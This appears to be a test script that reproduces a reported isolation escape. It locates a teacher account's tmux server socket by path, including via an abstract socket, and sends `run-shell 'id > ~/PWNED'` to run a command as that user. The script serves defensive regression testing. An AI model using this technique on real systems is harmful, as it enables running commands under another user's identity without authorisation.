#!/usr/bin/env python3
# The attack of issue 20: find the teacher's tmux server socket by stat (its
# folder cannot be listed, but a path can be tried) and have the server run
# a command as the teacher; then the same through an abstract socket.
# SOCKET and ABSTRACT are replaced by the test.
import os, socket, stat, sys

path = "SOCKET"
print("found the socket" if stat.S_ISSOCK(os.stat(path).st_mode) else "no socket", file=sys.stderr)
for address in [path, "\0ABSTRACT"]:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(address)
            s.sendall(b"run-shell 'id > ~/PWNED'\n")
            print("ESCAPE: connected to", repr(address), file=sys.stderr)
    except OSError as e:
        print("refused:", e.strerror, file=sys.stderr)
sys.exit(3)
